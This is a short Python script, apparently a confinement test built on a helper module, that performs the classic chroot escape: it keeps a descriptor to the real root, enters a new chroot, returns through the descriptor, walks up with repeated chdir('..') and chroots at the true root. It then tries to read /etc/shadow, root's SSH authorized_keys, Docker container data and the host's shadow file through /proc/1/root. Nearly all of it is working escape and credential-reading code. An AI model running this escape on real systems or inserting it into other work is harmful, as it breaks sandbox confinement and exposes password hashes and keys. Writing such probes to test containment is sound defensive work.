# The classical way out of a changed root: keep a descriptor outside, change the root again, walk up.
import os

from kit import attempt, finish, read, step

outside = os.open("/", os.O_RDONLY)
os.makedirs("cell", exist_ok=True)
step("a cell", os.chroot, "cell")
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
attempt("the root above", os.chroot, ".")
for path in ("/etc/shadow", "/root/.ssh/authorized_keys", "/var/lib/docker/containers", "/proc/1/root/etc/shadow"):
    attempt(path, read, path)
finish()
